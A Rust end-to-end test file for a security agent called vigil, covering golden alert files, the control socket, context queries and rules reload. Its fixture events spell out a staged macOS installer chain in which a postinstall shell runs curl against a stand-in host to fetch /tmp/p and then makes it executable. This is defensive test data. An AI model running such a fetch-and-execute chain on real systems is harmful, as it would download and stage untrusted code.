//! The alert document (golden file) and the control socket: status,
//! context by alert id, entity id and host window, rules reload, and bad
//! requests that must never hurt the agent.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::Path;

use serde_json::{json, Value};
use vigil_e2e::receivers::{alerts_in, positive_fixtures, Agent};
use vigil_e2e::{repo, stderr, stdout, vigil};

/// The alert documents of the positive rule fixtures, with ancestry and a
/// small window, pinned byte for byte (as JSON values). `VIGIL_BLESS=1`
/// rewrites the golden file after an intended format change.
#[test]
fn alert_documents_match_the_golden_file() {
    let dir = tempfile::tempdir().unwrap();
    let events = positive_fixtures(dir.path());
    let cfg = dir.path().join("vigil.toml");
    fs::write(&cfg, "host_id = \"golden-host\"\n[outputs]\nstdout = false\n[alerts]\nwindow_max_events = 2\n[control]\nenabled = false\n").unwrap();
    let state = dir.path().join("state");
    let o = vigil()
        .args(["run", "--spool-size-mb", "8", "--replay"])
        .arg(&events)
        .arg("--config")
        .arg(&cfg)
        .arg("--state-dir")
        .arg(&state)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let got = Value::Array(alerts_in(&state.join("alerts.ndjson")));
    let golden = repo().join("tests/golden/alerts.json");
    if std::env::var_os("VIGIL_BLESS").is_some() {
        fs::write(&golden, serde_json::to_string_pretty(&got).unwrap() + "\n").unwrap();
    }
    let want: Value = serde_json::from_str(
        &fs::read_to_string(&golden).expect("tests/golden/alerts.json (VIGIL_BLESS=1 creates it)"),
    )
    .unwrap();
    let (got, want) = (got.as_array().unwrap(), want.as_array().unwrap());
    assert_eq!(got.len(), want.len(), "number of alerts");
    for (g, w) in got.iter().zip(want) {
        assert_eq!(
            g, w,
            "alert {} differs from the golden file (VIGIL_BLESS=1 after an intended change)",
            w["id"]
        );
    }
    // What the format promises, spelled out.
    let a = got
        .iter()
        .find(|a| a["rule"]["id"] == "macos-installer-child-network")
        .unwrap();
    for key in [
        "id",
        "@timestamp",
        "rule",
        "host_id",
        "join_key",
        "events",
        "context_requests",
        "enrichments",
    ] {
        assert!(a.get(key).is_some(), "missing {key}");
    }
    assert!(a["rule"]["mitre"].as_array().is_some_and(|m| !m.is_empty()));
    assert!(a["enrichments"]["ancestry"].is_object());
    let w = &a["enrichments"]["window"];
    assert_eq!(w["events"].as_array().unwrap().len(), 2);
    assert_eq!(w["truncated"], true);
    assert!(w["events"]
        .as_array()
        .unwrap()
        .iter()
        .all(|e| e["@timestamp"].as_str() < a["@timestamp"].as_str()));
}

/// launchd → installer → sh → curl (connects, writes a file) and sh → chmod.
fn chain_events(path: &Path) {
    let host = json!({"id": "ctx-host", "name": "ctx-mbp", "os": {"type": "macos", "family": "macos", "version": "14.5"}});
    let proc_ = |pid: u32,
                 eid: &str,
                 name: &str,
                 exe: &str,
                 args: &[&str],
                 parent: Option<(u32, &str, &str)>| {
        let mut p =
            json!({"pid": pid, "entity_id": eid, "name": name, "executable": exe, "args": args});
        if let Some((ppid, peid, pname)) = parent {
            p["parent"] = json!({"pid": ppid, "entity_id": peid, "name": pname});
        }
        p
    };
    let exec = |ts: &str, id: &str, p: Value| json!({"@timestamp": ts, "event": {"id": id, "category": ["process"], "type": ["start"], "action": "exec"}, "host": host, "process": p, "user": {"id": "501", "name": "bob"}});
    let curl = proc_(
        201,
        "C-201",
        "curl",
        "/usr/bin/curl",
        &["curl", "-fsSL", "http://203.0.113.80/p"],
        Some((200, "S-200", "sh")),
    );
    let lines = [
        exec(
            "2024-06-01T10:00:00Z",
            "e1",
            proc_(
                1,
                "L-1",
                "launchd",
                "/sbin/launchd",
                &["/sbin/launchd"],
                None,
            ),
        ),
        exec(
            "2024-06-01T10:00:01Z",
            "e2",
            proc_(
                100,
                "I-100",
                "installer",
                "/usr/sbin/installer",
                &["installer", "-pkg", "/tmp/Update.pkg", "-target", "/"],
                Some((1, "L-1", "launchd")),
            ),
        ),
        exec(
            "2024-06-01T10:00:02Z",
            "e3",
            proc_(
                200,
                "S-200",
                "sh",
                "/bin/sh",
                &["/bin/sh", "/tmp/PKInstallSandbox/Scripts/postinstall"],
                Some((100, "I-100", "installer")),
            ),
        ),
        exec("2024-06-01T10:00:02.500Z", "e4", curl.clone()),
        json!({"@timestamp": "2024-06-01T10:00:03Z", "event": {"id": "e5", "category": ["network"], "type": ["start", "connection"], "action": "connection_attempted"}, "host": host, "process": curl, "destination": {"ip": "203.0.113.80", "port": 80}, "network": {"transport": "tcp", "direction": "egress"}}),
        json!({"@timestamp": "2024-06-01T10:00:03.500Z", "event": {"id": "e6", "category": ["file"], "type": ["creation"], "action": "create"}, "host": host, "process": curl, "file": {"path": "/tmp/p", "name": "p"}}),
        exec(
            "2024-06-01T10:00:04Z",
            "e7",
            proc_(
                202,
                "X-202",
                "chmod",
                "/bin/chmod",
                &["chmod", "+x", "/tmp/p"],
                Some((200, "S-200", "sh")),
            ),
        ),
    ];
    fs::write(
        path,
        lines
            .iter()
            .map(|l| l.to_string() + "\n")
            .collect::<String>(),
    )
    .unwrap();
}

fn raw(sock: &Path, line: &[u8]) -> Value {
    let mut s = UnixStream::connect(sock).unwrap();
    // The agent may answer and hang up before an oversized line is written.
    let _ = s.write_all(line).and_then(|()| s.write_all(b"\n"));
    let mut out = String::new();
    BufReader::new(s).read_line(&mut out).unwrap();
    serde_json::from_str(&out).unwrap()
}

#[test]
fn control_socket_status_context_reload_and_bad_requests() {
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("chain.ndjson");
    chain_events(&events);
    let rules = dir.path().join("rules");
    fs::create_dir(&rules).unwrap();
    let cfg = dir.path().join("vigil.toml");
    fs::write(
        &cfg,
        format!(
            "[outputs]\nstdout = false\n[rules]\ndir = \"{}\"\n[[sinks]]\nkind = \"file\"\nname = \"archive\"\npath = \"{}\"\n",
            rules.display(),
            dir.path().join("archive.ndjson").display()
        ),
    )
    .unwrap();
    let state = dir.path().join("state");
    let agent = Agent::replaying(&events, 8, &cfg, &state);
    let sock = state.join("vigil.sock");
    assert_eq!(
        fs::metadata(&sock).unwrap().permissions().mode() & 0o777,
        0o600
    );
    // Processed, and sealed into the spool (within spool.max_batch_age_ms).
    assert!(vigil_e2e::receivers::wait_until(
        std::time::Duration::from_secs(20),
        || {
            let st = agent.status();
            st["processed"] == 7 && st["spool"]["used_bytes"].as_u64().unwrap_or(0) > 0
        }
    ));

    // status: counters, queue, drops, spool, rules, outbox and sinks.
    let st = agent.status();
    assert_eq!(
        (
            st["received"].as_u64(),
            st["dropped"].as_u64(),
            st["queue_depth"].as_u64()
        ),
        (Some(7), Some(0), Some(0)),
        "{st}"
    );
    assert!(st["spool"]["used_bytes"].as_u64().unwrap() > 0, "{st}");
    let shipped = st["rules"].as_array().unwrap().len();
    assert!(shipped >= 6);
    assert_eq!(st["sinks"][0]["name"], "archive");
    let human = vigil()
        .args(["status", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    assert!(
        stdout(&human).contains("archive") && stdout(&human).contains("vigil.sock"),
        "{}",
        stdout(&human)
    );

    // context by alert id: the process tree from the table, the rest from the spool.
    let alert = alerts_in(&state.join("alerts.ndjson"))
        .into_iter()
        .find(|a| a["rule"]["id"] == "macos-installer-child-network")
        .expect("the chain raises the installer alert");
    let id = alert["id"].as_str().unwrap();
    let o = vigil()
        .args(["context", id, "--json", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let c: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(c["alert"]["id"], id);
    let ent = |eid: &str| {
        c["entities"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["entity_id"] == eid)
            .cloned()
            .unwrap_or_else(|| panic!("no entity {eid}: {c}"))
    };
    let sh = ent("S-200");
    let names: Vec<&str> = sh["ancestry"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["sh", "installer", "launchd"]);
    let children: Vec<&str> = sh["children"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(children, ["curl", "chmod"]);
    let curl = ent("C-201");
    assert_eq!(curl["connections"][0]["destination"], "203.0.113.80:80");
    assert_eq!(curl["files_written"][0]["path"], "/tmp/p");
    assert_eq!(
        c["events"].as_array().unwrap().len(),
        7,
        "the whole chain is within 5m"
    );
    // The same for people: a process tree.
    let o = vigil()
        .args(["context", id, "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    let text = stdout(&o);
    for needle in [
        "process tree of S-200",
        "launchd (1)",
        "└─ installer (100)",
        "└─ sh (200)",
        "<== this process",
        "curl (201)",
        "chmod (202)",
        "files written by C-201",
        "203.0.113.80:80",
    ] {
        assert!(text.contains(needle), "missing {needle:?} in\n{text}");
    }

    // context by entity id, and by host and time window.
    let o = vigil()
        .args([
            "context",
            "S-200",
            "--json",
            "--window",
            "1s",
            "--state-dir",
        ])
        .arg(&state)
        .output()
        .unwrap();
    let c: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(c["entities"][0]["process"]["name"], "sh");
    assert!(c["alert"].is_null());
    let o = vigil()
        .args([
            "context",
            "--host",
            "ctx-host",
            "--since",
            "2024-06-01T10:00:02Z",
            "--until",
            "2024-06-01T10:00:03.100Z",
            "--json",
            "--state-dir",
        ])
        .arg(&state)
        .output()
        .unwrap();
    let c: Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(c["events"].as_array().unwrap().len(), 3, "{c}");

    // Clear errors, with exit codes: 1 not found, 2 bad request.
    let o = vigil()
        .args(["context", "no-such-id", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("unknown id \"no-such-id\""),
        "{}",
        stderr(&o)
    );
    let o = vigil()
        .args(["context", id, "--window", "25h", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("longer than 24h"), "{}", stderr(&o));
    let bad = raw(&sock, b"{\"cmd\":");
    assert_eq!(
        (bad["ok"].as_bool(), bad["kind"].as_str()),
        (Some(false), Some("bad_request")),
        "{bad}"
    );
    let bad = raw(&sock, br#"{"cmd":"context","alert_id":"x","limit":999999}"#);
    assert!(bad["error"].as_str().unwrap().contains("limit"), "{bad}");
    let huge = vec![b'a'; 70 * 1024];
    let bad = raw(&sock, &huge);
    assert!(
        bad["error"]
            .as_str()
            .unwrap()
            .contains("longer than 64 KiB"),
        "{bad}"
    );

    // rules reload: a good set swaps in, a broken one is rejected whole.
    fs::write(
        rules.join("extra.rhai"),
        "rule(#{ id: \"extra-chmod\", query: `process where process.name == \"chmod\"` });\n",
    )
    .unwrap();
    let o = vigil()
        .args(["rules", "reload", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stdout(&o).contains(&format!("{} rules", shipped + 1)),
        "{}",
        stdout(&o)
    );
    fs::write(
        rules.join("broken.rhai"),
        // A real error (a field vigil lacks would load, with a warning).
        "rule(#{ id: \"broken\", query: `process where process.pid == \"x\"` });\n",
    )
    .unwrap();
    let o = vigil()
        .args(["rules", "reload", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("rejected") && stderr(&o).contains("process.pid"),
        "{}",
        stderr(&o)
    );
    // The agent is unhurt and runs the last good set.
    let st = agent.status();
    let ids: Vec<&str> = st["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert!(
        ids.contains(&"extra-chmod") && !ids.contains(&"broken"),
        "{ids:?}"
    );
    assert_eq!(st["rules_reloads"], 1);

    // Every connection taken by clients that went quiet: status and rules
    // reload still get the reserved one, other requests hear "busy", and
    // the quiet ones are closed soon, freeing their slots.
    let idle: Vec<UnixStream> = (0..9)
        .map(|_| UnixStream::connect(&sock).unwrap())
        .collect();
    std::thread::sleep(std::time::Duration::from_millis(200));
    let busy = raw(&sock, br#"{"cmd":"context","alert_id":"nope"}"#);
    assert_eq!(busy["kind"], "busy", "{busy}");
    let after = std::time::Instant::now();
    assert!(vigil_e2e::receivers::wait_until(
        std::time::Duration::from_secs(10),
        || raw(&sock, br#"{"cmd":"context","alert_id":"nope"}"#)["kind"] == "not_found"
    ));
    assert!(after.elapsed() < std::time::Duration::from_secs(5));
    drop(idle);
    let idle: Vec<UnixStream> = (0..8)
        .map(|_| UnixStream::connect(&sock).unwrap())
        .collect();
    std::thread::sleep(std::time::Duration::from_millis(200));
    let o = vigil()
        .args(["rules", "reload", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    // Served (the broken file is still there, so rejected), not "busy".
    assert!(
        stderr(&o).contains("rejected") && !stderr(&o).contains("busy"),
        "{}",
        stderr(&o)
    );
    drop(idle);
    let (status, err) = agent.stop();
    assert!(status.success(), "{err}");
    assert!(!sock.exists(), "the socket is removed on exit");
    // Stopped: status falls back to status.json.
    let o = vigil()
        .args(["status", "--json", "--state-dir"])
        .arg(&state)
        .output()
        .unwrap();
    assert!(o.status.success());
    let _ = fs::remove_dir_all(dir.path().join("x"));
}

/// An agent that accepts on its socket but never answers (stuck): `vigil
/// status` gives up after a few seconds and shows status.json, saying
/// that it is the file and how old it is.
#[test]
fn status_of_a_stuck_agent_says_it_is_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path();
    let listener = std::os::unix::net::UnixListener::bind(state.join("vigil.sock")).unwrap();
    // Holds the connections open without a word.
    let held = std::thread::spawn(move || {
        let mut conns = Vec::new();
        for c in listener.incoming().take(1) {
            conns.push(c);
        }
        std::thread::sleep(std::time::Duration::from_secs(5));
        drop(conns);
    });
    fs::write(
        state.join("status.json"),
        r#"{"at":"2024-01-01T00:00:00Z","uptime_secs":1,"received":5,"dropped":0,"queue_depth":0,"processed":5,"spooled":5,"spool_errors":0,"alerts":0,"output_errors":0,"processes_tracked":0,"rules":[]}"#,
    )
    .unwrap();
    let started = std::time::Instant::now();
    let o = vigil()
        .args(["status", "--state-dir"])
        .arg(state)
        .output()
        .unwrap();
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("did not answer"), "{}", stderr(&o));
    assert!(stdout(&o).contains("processed        5"), "{}", stdout(&o));
    held.join().unwrap();
}
